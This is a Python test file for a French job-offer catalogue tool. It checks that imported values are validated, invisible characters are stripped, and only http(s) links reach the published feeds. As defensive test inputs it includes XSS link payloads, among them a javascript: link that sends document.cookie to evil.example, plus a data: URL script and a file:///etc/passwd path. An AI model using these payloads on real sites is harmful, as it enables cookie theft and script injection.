"""Sources that are hostile or sloppy cannot spoil the catalogue or the feeds we publish.

Values are checked, not coerced; references are exact; only http(s) links survive; invisible
characters are stripped; the demo can be removed; closed offers are named when looked up.
"""

from __future__ import annotations

import json
import subprocess
from datetime import date, timedelta
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from http_server import Reply, scripted_server

from pass_tui.data.catalogue import Catalogue
from pass_tui.data.criteria import SearchCriteria
from pass_tui.data.errors import BadInput, ImportFailed
from pass_tui.data.models import Offer, SourceChecks
from pass_tui.data.paths import DataPaths
from pass_tui.data.publishing.feeds import offer_link, render_atom, render_rss
from pass_tui.data.sources.fetch import Fetcher
from pass_tui.data.sources.imports import Importer
from pass_tui.data.sources.json_offers import parse_json_offers
from pass_tui.data.sources.pass_rss import parse_pass_rss
from pass_tui.data.sources.pep_csv import parse_pep_csv
from pass_tui.data.text import clean, clean_multiline, web_url
from pass_tui.i18n import set_language
from tests import factories

REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "tests" / "fixtures"
TODAY = date(2026, 11, 26)

BIDI_AND_ZERO_WIDTH = (
    "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    "\u200b\u200c\u200d\u2060\ufeff"
)


@pytest.fixture
def paths(data_dir: Path) -> DataPaths:
    return DataPaths(data_dir)


@pytest.fixture
def catalogue(paths: DataPaths) -> Catalogue:
    return Catalogue(paths, today=lambda: TODAY)


@pytest.fixture
def english() -> object:
    set_language("en")
    yield
    set_language("fr")


def importer(paths: DataPaths, catalogue: Catalogue) -> Importer:
    return Importer(paths, catalogue, Fetcher(timeout=2, attempts=1, backoff=0.01))


def record(reference: object = "J-1", **fields: object) -> dict[str, object]:
    """One offer as pass-tui's JSON export writes it."""
    base: dict[str, object] = {
        "reference": reference,
        "title": f"Offre {reference}",
        "nature": "Apprentissage",
        "published": (TODAY - timedelta(days=3)).isoformat(),
    }
    return base | fields


def json_source(*records: dict[str, object]) -> bytes:
    return json.dumps({"offers": list(records)}, ensure_ascii=False).encode()


def rss_item(reference: str, **tags: str) -> str:
    values = {
        "title": f"Offre {reference}",
        "link": f"https://www.pass.fonction-publique.gouv.fr/offre/{reference.lower()}",
        "dc:identifier": reference,
        "pubDate": "2026-11-20T10:15:00+01:00",
    } | {name.replace("_", ":"): value for name, value in tags.items()}
    return "<item>" + "".join(f"<{t}>{escape(v)}</{t}>" for t, v in values.items()) + "</item>"


def rss_source(*items: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>'
        "<title>PASS</title><link>https://www.pass.fonction-publique.gouv.fr/</link>"
        "<description>x</description>" + "".join(items) + "</channel></rss>"
    ).encode()


def run_cli(*args: str, data_dir: Path) -> subprocess.CompletedProcess[str]:
    return factories.run_cli(*args, "--data-dir", str(data_dir), timeout=60)


# -- values are checked, not coerced ----------------------------------------------------------
@pytest.mark.parametrize(
    ("reference", "problem"),
    [
        (["A-1"], "texte attendu"),
        (12345, "texte attendu"),
        ({"id": "A-1"}, "texte attendu"),
        (True, "texte attendu"),
        (None, "texte attendu"),
        ("", "vide"),
        ("  \u200b\u202e ", "vide"),  # nothing left once invisible characters go
        ("A-\ue000-1", "caractères invisibles ou non imprimables"),  # private use
        ("A-\u00ad1", "caractères invisibles ou non imprimables"),  # soft hyphen
        ("R" * 101, "trop long (maximum 100 caractères)"),
    ],
)
def test_a_reference_is_a_printable_string(reference: object, problem: str) -> None:
    with pytest.raises(ImportFailed) as caught:
        parse_json_offers(json_source(record("OK-1"), record(reference)), source="x.json")
    assert str(caught.value) == f"x.json : offre 2 : champ reference invalide ({problem})"


@pytest.mark.parametrize(
    ("field", "value", "problem"),
    [
        ("title", 42, "texte attendu"),
        ("employer", ["Mairie"], "texte attendu"),
        ("department", 35, "texte attendu"),
        ("level", 6.0, "nombre entier attendu"),
        ("level", True, "nombre entier attendu"),
        ("level", 9, "valeur trop grande (maximum 8)"),
        ("apply_by_email", "oui", "vrai ou faux attendu (true/false)"),
        ("published", 1_790_000_000, "date attendue (AAAA-MM-JJ)"),
        ("published", "2026-11-20T00:00:00", "date attendue (AAAA-MM-JJ)"),
        ("closing", "demain", "date attendue (AAAA-MM-JJ)"),
        ("attachments", "fiche.pdf", "liste attendue"),
    ],
)
def test_other_values_are_checked_not_coerced(field: str, value: object, problem: str) -> None:
    with pytest.raises(ImportFailed, match=rf"^offre 1 : champ {field} invalide") as caught:
        parse_json_offers(json_source(record(**{field: value})), checks=SourceChecks(TODAY))
    assert str(caught.value).endswith(f"({problem})")


def test_not_an_object_is_refused() -> None:
    with pytest.raises(ImportFailed, match=r"offre 1 : champ offre invalide \(objet attendu\)"):
        parse_json_offers(b'["A-1"]')


def test_messages_follow_the_language(english: object) -> None:
    with pytest.raises(ImportFailed) as caught:
        parse_json_offers(json_source(record(["A-1"])))
    assert str(caught.value) == "offer 1: invalid field reference (text expected)"


# -- natures ----------------------------------------------------------------------------------
def test_unknown_nature_is_refused_in_json_and_rss() -> None:
    with pytest.raises(ImportFailed, match=r"offre 1 : champ nature invalide \(nature inconnue"):
        parse_json_offers(json_source(record(nature="Bénévolat")), checks=SourceChecks(TODAY))
    feed = rss_source(rss_item("R-1", category="Bénévolat"))
    with pytest.raises(ImportFailed, match=r"élément 1 : champ nature invalide .*'Bénévolat'"):
        parse_pass_rss(feed, checks=SourceChecks(TODAY))


def test_known_natures_in_any_case_are_named_as_the_list_names_them() -> None:
    (offer,) = parse_json_offers(json_source(record(nature="STAGE")), checks=SourceChecks(TODAY))
    assert offer.nature == "Stage"
    (offer,) = parse_pass_rss(
        rss_source(rss_item("R-1", category="emploi ouvert aux contractuels")),
        checks=SourceChecks(TODAY),
    )
    assert offer.nature == "Emploi ouvert aux contractuels"
    # no category: the feed's own kind (PASS's feeds have none)
    (offer,) = parse_pass_rss(rss_source(rss_item("R-2")), source="https://x/flux/offres_stages")
    assert offer.nature == "Stage"


# -- publication dates ------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("published", "accepted"),
    [
        ("9999-12-31", False),  # would stay at the top of every list forever
        ("0001-01-01", False),  # cannot be written in Atom
        ("1999-12-31", False),
        ("2000-01-01", True),
        ((TODAY + timedelta(days=1)).isoformat(), True),  # time zones
        ((TODAY + timedelta(days=2)).isoformat(), False),
    ],
)
def test_publication_dates_are_plausible(published: str, accepted: bool) -> None:
    source = json_source(record(published=published))
    if accepted:
        (offer,) = parse_json_offers(source, checks=SourceChecks(TODAY))
        assert offer.published.isoformat() == published
    else:
        with pytest.raises(ImportFailed) as caught:
            parse_json_offers(source, checks=SourceChecks(TODAY))
        assert str(caught.value) == (
            f"offre 1 : champ published invalide (date de publication impossible : "
            f"{published} (attendu entre 2000-01-01 et 2026-11-27))"
        )


def test_publication_dates_in_rss_and_csv_against_the_catalogue_day(
    paths: DataPaths, catalogue: Catalogue, tmp_path: Path
) -> None:
    """The importer checks against the catalogue's (injectable) today."""
    feed = tmp_path / "futur.xml"
    feed.write_bytes(rss_source(rss_item("R-1"), rss_item("R-2", pubDate="31/12/9999")))
    with pytest.raises(ImportFailed, match=r"élément 2 : champ published invalide"):
        importer(paths, catalogue).run(str(feed))
    assert not paths.catalogue.exists()
    header = (FIXTURES / "pep-export-2021.csv").read_text("utf-8").split("\n", 1)[0].rstrip("\r")

    def pep(published: str) -> str:
        cells = {
            "Offer_Reference_": "C-1",
            "JobDescriptionTranslation_JobTitle_": "Juriste",
            "SchedulingData_DefaultPublicationBeginDate_": published,
        }
        return header + "\r\n" + ";".join(cells.get(c, "") for c in header.split(";")) + "\r\n"

    for published in ("15/06/1999", "28/11/2026"):
        with pytest.raises(ImportFailed, match=r"^ligne 2 : offre invalide \(published : date de"):
            parse_pep_csv(pep(published), checks=SourceChecks(TODAY))
    # the bound follows the injected day: one day later, the 28th is no longer ahead
    (offer,) = parse_pep_csv(pep("28/11/2026"), checks=SourceChecks(TODAY + timedelta(days=1)))
    assert offer.published == date(2026, 11, 28)


# -- duplicates -------------------------------------------------------------------------------
def test_duplicate_references_are_refused_in_every_format() -> None:
    with pytest.raises(ImportFailed) as caught:
        parse_json_offers(json_source(record("D-1"), record("D-2"), record("D-1")))
    assert str(caught.value) == "offre 3 : référence 'D-1' en double (déjà offre 1)"
    with pytest.raises(ImportFailed) as caught:
        parse_pass_rss(rss_source(rss_item("D-1"), rss_item("D-2"), rss_item("D-2")))
    assert str(caught.value) == "élément 3 : référence 'D-2' en double (déjà élément 2)"
    # case or accents make another reference, not a duplicate
    offers = parse_json_offers(json_source(record("D-1"), record("d-1"), record("É-1")))
    assert [o.reference for o in offers] == ["D-1", "d-1", "É-1"]


# -- references are exact ---------------------------------------------------------------------
@pytest.fixture
def lookalikes(catalogue: Catalogue) -> Catalogue:
    checks = SourceChecks(TODAY)
    catalogue.upsert(
        [
            checks.offer(record("A-2026-1", title="Majuscule", published="2026-11-20")),
            checks.offer(record("a-2026-1", title="Minuscule", published="2026-11-21")),
            checks.offer(record("É-1", title="Accentuée", published="2026-11-22")),
            checks.offer(record("E-1", title="Sans accent", published="2026-11-23")),
            checks.offer(record("Z-9", title="Seule", published="2026-11-24")),
        ]
    )
    return catalogue


def test_lookalike_references_are_distinct_offers(lookalikes: Catalogue) -> None:
    assert len(lookalikes) == 5
    for reference, title in [
        ("A-2026-1", "Majuscule"),
        ("a-2026-1", "Minuscule"),
        ("É-1", "Accentuée"),
        ("E-1", "Sans accent"),
    ]:
        offer = lookalikes.get(reference)
        assert offer is not None and offer.title == title
        found = lookalikes.search(SearchCriteria(keywords=reference))
        assert [s.reference for s in found.summaries()] == [reference]
        everything = lookalikes.search(SearchCriteria())
        assert everything.summary_at(everything.index_of(reference)).reference == reference


def test_a_folded_reference_finds_an_offer_only_when_it_names_one(lookalikes: Catalogue) -> None:
    assert lookalikes.get("z-9").reference == "Z-9"  # unambiguous: found
    assert lookalikes.get("e-1") is None  # É-1 or E-1? neither is guessed
    assert lookalikes.get("A-2026-1 ").title == "Majuscule"
    everything = lookalikes.search(SearchCriteria())
    assert everything.index_of("z-9") == everything.index_of("Z-9") == 0
    assert everything.index_of("e-1") is None
    # keywords list every offer an ambiguous reference may mean, rather than none
    found = lookalikes.search(SearchCriteria(keywords="e-1"))
    assert [s.reference for s in found.summaries()] == ["E-1", "É-1"]


def test_lookalike_references_from_the_command_line(data_dir: Path, tmp_path: Path) -> None:
    source = tmp_path / "offres.json"
    source.write_bytes(
        json_source(record("a-2026-1", title="Minuscule"), record("A-2026-1", title="Majuscule"))
    )
    imported = run_cli("import", str(source), data_dir=data_dir)
    assert imported.returncode == 0, imported.stderr
    for reference, title in [("A-2026-1", "Majuscule"), ("a-2026-1", "Minuscule")]:
        shown = run_cli("offer", reference, "--format", "json", data_dir=data_dir)
        assert shown.returncode == 0, shown.stderr
        assert json.loads(shown.stdout)["title"] == title
        found = run_cli("search", "--keywords", reference, "--format", "json", data_dir=data_dir)
        assert [o["title"] for o in json.loads(found.stdout)["offers"]] == [title]


# -- links ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(document.cookie)",
        "JavaScript:alert(1)",
        "java\u200bscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "file:///etc/passwd",
        "ftp://ftp.example.org/offre.pdf",
        "/offre/a-1",
        "//evil.example/offre",
        "https://",
    ],
)
def test_only_http_links_survive(url: str) -> None:
    assert web_url(url) is None
    checks = SourceChecks(TODAY)
    source = json_source(
        record(
            "L-1",
            source_url=url,
            attachments=[
                {"name": "fiche.pdf", "url": url},
                {"name": "plan.pdf", "url": "https://www.example.org/plan.pdf"},
            ],
        )
    )
    (offer,) = parse_json_offers(source, checks=checks)
    assert offer.source_url is None
    # the attachment left with nothing to fetch is gone; the good one stays
    assert [(a.name, a.url) for a in offer.attachments] == [
        ("plan.pdf", "https://www.example.org/plan.pdf")
    ]
    assert len(checks.dropped_links) == 2


def test_http_links_are_kept() -> None:
    for url in ("https://www.pass.fonction-publique.gouv.fr/offre/a-1", "HTTP://Example.org/x"):
        (offer,) = parse_json_offers(json_source(record(source_url=url)))
        assert offer.source_url == url


def test_a_hostile_feed_over_http(paths: DataPaths, catalogue: Catalogue) -> None:
    """A real server on 127.0.0.1 serves a feed with a javascript: link, bidi and zero-width
    characters: the offer comes in clean, and nothing dangerous goes out in our feeds."""
    hostile = rss_source(
        rss_item(
            "H-\u200b1",
            title="Apprenti(e) \u202egnirts\u202c jardinier\u200b(ère)",
            link="javascript:fetch('https://evil.example/?'+document.cookie)",
            description="<p>Entretien\u2066 des parcs</p>\u200f",
            dc_coverage="Ni\ufeffce",
        ),
        rss_item("H-2", link="data:text/html,<script>alert(1)</script>"),
        rss_item("H-3"),
    )
    with scripted_server() as server:
        server.routes["/flux/offres"] = [
            Reply(200, hostile, {"Content-Type": "application/rss+xml"})
        ]
        report = importer(paths, catalogue).run(server.url("/flux/offres"))
    assert (report.read, report.changes.added, report.dropped_links) == (3, 3, 2)
    assert report.message().endswith(" ; 2 lien(s) ignoré(s) (ni http ni https)")
    offer = catalogue.get("H-1")
    assert offer is not None
    assert offer.title == "Apprenti(e) gnirts jardinier(ère)"
    assert (offer.description, offer.city, offer.source_url) == (
        "Entretien des parcs",
        "Nice",
        None,
    )
    offers = catalogue.search(SearchCriteria()).offers()
    for feed in (
        render_rss(offers, title="t", link="https://flux.example/", description="d"),
        render_atom(offers, title="t", link="https://flux.example/", feed_id="urn:x"),
    ):
        assert b"javascript:" not in feed and b"data:" not in feed
        assert b"https://flux.example/offre/H-1" in feed
        assert b"https://www.pass.fonction-publique.gouv.fr/offre/h-3" in feed
        assert not any(ch.encode() in feed for ch in BIDI_AND_ZERO_WIDTH)


def test_feeds_never_publish_a_bad_link() -> None:
    """Even an offer built without validation (an old catalogue) is linked safely."""
    offer = Offer.model_construct(
        **(Offer.model_validate(record("B-1")).model_dump() | {"source_url": "javascript:alert(1)"})
    )
    assert offer_link(offer, "https://flux.example") == "https://flux.example/offre/B-1"
    feed = render_rss([offer], title="t", link="https://flux.example/", description="d")
    assert b"javascript" not in feed
    for bad in ("javascript:alert(1)", "/relative", "file:///tmp"):
        with pytest.raises(BadInput, match="adresse http\\(s\\) absolue attendue"):
            render_rss([], title="t", link=bad, description="d")
        with pytest.raises(BadInput):
            render_atom([], title="t", link="https://a.example/", feed_id="x", self_url=bad)
        with pytest.raises(BadInput):
            offer_link(Offer.model_validate(record("B-2")), bad)


# -- invisible characters ---------------------------------------------------------------------
def test_bidi_and_zero_width_characters_are_stripped() -> None:
    for ch in BIDI_AND_ZERO_WIDTH:
        assert clean(f"Pi{ch}ège") == "Piège", hex(ord(ch))
        assert clean_multiline(f"Pi{ch}ège\n- a{ch}b") == "Piège\n- ab", hex(ord(ch))
    assert clean("a\tb\x1b[2Jc\u2028d") == "a b [2Jc d"


def test_invisible_characters_are_stripped_in_every_format(tmp_path: Path) -> None:
    trap = "\u202e\u200b"
    (json_offer,) = parse_json_offers(
        json_source(record(f"J{trap}-1", title=f"Gestionnaire{trap} RH", profile=f"a{trap}\nb"))
    )
    assert (json_offer.reference, json_offer.title, json_offer.profile) == (
        "J-1",
        "Gestionnaire RH",
        "a\nb",
    )
    header = (FIXTURES / "pep-export-2021.csv").read_text("utf-8").split("\n", 1)[0].rstrip("\r")
    cells = {
        "Offer_Reference_": f"C{trap}-1",
        "JobDescriptionTranslation_JobTitle_": f"Juriste{trap} (F/H)",
        "JobDescriptionTranslation_Description1_": f"Missions{trap} :\n- conseil{trap}",
        "SchedulingData_DefaultPublicationBeginDate_": "04/01/2021",
    }
    row = ";".join(f'"{cells.get(c, "")}"' for c in header.split(";"))
    (csv_offer,) = parse_pep_csv(header + "\r\n" + row + "\r\n")
    assert (csv_offer.reference, csv_offer.title) == ("C-1", "Juriste (F/H)")
    assert csv_offer.description.startswith("Missions :\n- conseil")


# -- import report: closed offers -------------------------------------------------------------
def test_the_report_counts_offers_already_closed(paths: DataPaths, catalogue: Catalogue) -> None:
    report = importer(paths, catalogue).run(str(FIXTURES / "pep-export-2021.csv"))
    assert (report.read, report.closed) == (50, 50)
    assert ", dont 50 déjà clôturée(s) — 50 ajoutée(s)" in report.message()
    fresh = importer(paths, catalogue).run(str(FIXTURES / "pass-offres.xml"))
    assert (fresh.read, fresh.closed) == (2, 0)
    assert "2 offre(s) lue(s) (pass-rss), dont 0 déjà clôturée(s)" in fresh.message()


def test_the_report_in_english(paths: DataPaths, catalogue: Catalogue, english: object) -> None:
    report = importer(paths, catalogue).run(str(FIXTURES / "pass-offres.xml"))
    assert report.message().endswith(
        "pass-offres.xml: 2 offer(s) read (pass-rss), 0 of them already closed — "
        "2 added, 0 updated, 0 unchanged"
    )


# -- closed offers looked up by reference -----------------------------------------------------
def test_a_closed_offer_is_named_when_its_reference_is_searched(catalogue: Catalogue) -> None:
    checks = SourceChecks(TODAY)
    catalogue.upsert(
        [
            checks.offer(record("2026-1", published="2026-10-01", closing="2026-11-01")),
            checks.offer(record("2026-2", published="2026-10-02", closing="2026-11-26")),
        ]
    )
    closed = catalogue.search(SearchCriteria(keywords="2026-1"))
    assert closed.count == 0
    assert closed.closed_match is not None
    assert (closed.closed_match.reference, closed.closed_match.closing) == (
        "2026-1",
        date(2026, 11, 1),
    )
    assert closed.closed_notice() == "L'offre 2026-1 est clôturée depuis le 01/11/2026."
    assert closed.to_json()["closed"]["closing"] == "2026-11-01"
    still_open = catalogue.search(SearchCriteria(keywords="2026-2"))  # closes today: open
    assert (still_open.count, still_open.closed_match) == (1, None)
    assert "closed" not in still_open.to_json()
    words = catalogue.search(SearchCriteria(keywords="Offre"))
    assert words.closed_match is None and words.closed_notice() is None


def test_closed_offer_search_from_the_command_line(data_dir: Path, tmp_path: Path) -> None:
    source = tmp_path / "offres.json"
    source.write_bytes(json_source(record("2026-1", published="2026-10-01", closing="2026-11-01")))
    imported = run_cli("import", str(source), data_dir=data_dir)
    assert imported.returncode == 0, imported.stderr
    assert "dont 1 déjà clôturée(s)" in imported.stdout
    text = run_cli("search", "--keywords", "2026-1", data_dir=data_dir)
    assert text.returncode == 0, text.stderr
    assert text.stdout.splitlines() == [
        "L'offre 2026-1 est clôturée depuis le 01/11/2026.",
        "Mots clés : 2026-1",
    ]
    english = run_cli("--lang", "en", "search", "--keywords", "2026-1", data_dir=data_dir)
    assert english.stdout.splitlines()[0] == "Offer 2026-1 has been closed since 01/11/2026."
    as_json = run_cli("search", "--keywords", "2026-1", "--format", "json", data_dir=data_dir)
    doc = json.loads(as_json.stdout)
    assert (doc["count"], doc["offers"]) == (0, [])
    assert doc["closed"] == {
        "reference": "2026-1",
        "title": "Offre 2026-1",
        "employer": "",
        "location": "",
        "nature": "Apprentissage",
        "published": "2026-10-01",
        "closing": "2026-11-01",
    }


# -- the demo ---------------------------------------------------------------------------------
def test_importing_into_an_empty_data_dir_brings_no_demo(data_dir: Path) -> None:
    with scripted_server() as server:
        server.routes["/flux/offres_stages"] = [
            Reply(200, (FIXTURES / "pass-offres_stages.xml").read_bytes())
        ]
        imported = run_cli("import", server.url("/flux/offres_stages"), data_dir=data_dir)
    assert imported.returncode == 0, imported.stderr
    listed = run_cli("search", "--format", "json", data_dir=data_dir)
    doc = json.loads(listed.stdout)
    assert doc["count"] == 1 and doc["offers"][0]["reference"] == "S-2026-001234"


def test_remove_demo_keeps_real_offers(data_dir: Path, tmp_path: Path) -> None:
    """Seed the demo, import real offers over and beside it, then remove the demo: real
    offers stay, even those sharing a reference with a demo offer; twice is harmless."""
    seeded = run_cli("search", "--format", "json", "--limit", "250", data_dir=data_dir)
    demo = json.loads(seeded.stdout)
    assert demo["count"] == 250
    generated = next(o for o in demo["offers"] if o["reference"].startswith("A-"))
    # an import replaced one generated offer with a real one of the same reference
    replaced = dict(generated, title="Vraie offre importée")
    source = tmp_path / "reelle.json"
    source.write_bytes(json_source(replaced))
    for path in (source, FIXTURES / "pass-offres.xml", FIXTURES / "pep-export-2021.csv"):
        done = run_cli("import", str(path), data_dir=data_dir)
        assert done.returncode == 0, done.stderr
    # the 2021 export itself replaced the 50 real demo offers (moved dates) with its own
    removed = run_cli("catalogue", "remove-demo", data_dir=data_dir)
    assert removed.returncode == 0, removed.stderr
    assert removed.stdout == "199 offre(s) de démonstration retirée(s) du catalogue.\n"
    again = run_cli("catalogue", "remove-demo", data_dir=data_dir)
    assert again.stdout == "0 offre(s) de démonstration retirée(s) du catalogue.\n"
    left = run_cli("offer", generated["reference"], "--format", "json", data_dir=data_dir)
    assert json.loads(left.stdout)["title"] == "Vraie offre importée"
    for reference in ("A-2025-159026", "2021-527987"):
        assert run_cli("offer", reference, data_dir=data_dir).returncode == 0
    total = Catalogue(DataPaths(data_dir))
    assert len(total) == 1 + 2 + 50
    english = run_cli("--lang", "en", "catalogue", "remove-demo", data_dir=data_dir)
    assert english.stdout == "0 demo offer(s) removed from the catalogue.\n"


def test_remove_demo_on_a_data_dir_without_catalogue_writes_nothing(data_dir: Path) -> None:
    done = run_cli("catalogue", "remove-demo", data_dir=data_dir)
    assert done.returncode == 0, done.stderr
    assert done.stdout.startswith("0 ")
    assert not (data_dir / "catalogue.json").exists()
    usage = run_cli("catalogue", data_dir=data_dir)
    assert usage.returncode == 2 and "remove-demo" in usage.stderr


# -- translations -----------------------------------------------------------------------------
def test_source_and_catalogue_messages_have_english_translations() -> None:
    import ast

    from pass_tui.i18n import ENGLISH

    package = REPO / "pass_tui"
    sources = package / "data" / "sources"
    files = [
        package / "data" / "models.py",
        sources / "pass_rss.py",
        sources / "pep_csv.py",
        sources / "json_offers.py",
        package / "data" / "catalogue" / "catalogue.py",
        package / "cli" / "catalogue.py",
    ]
    messages: set[str] = set()
    for path in files:
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if (
                isinstance(node, ast.Call)
                and getattr(node.func, "id", None) == "_"
                and node.args
                and isinstance(node.args[0], ast.Constant)
            ):
                messages.add(node.args[0].value)
    assert len(messages) > 40
    assert sorted(m for m in messages if m not in ENGLISH) == []
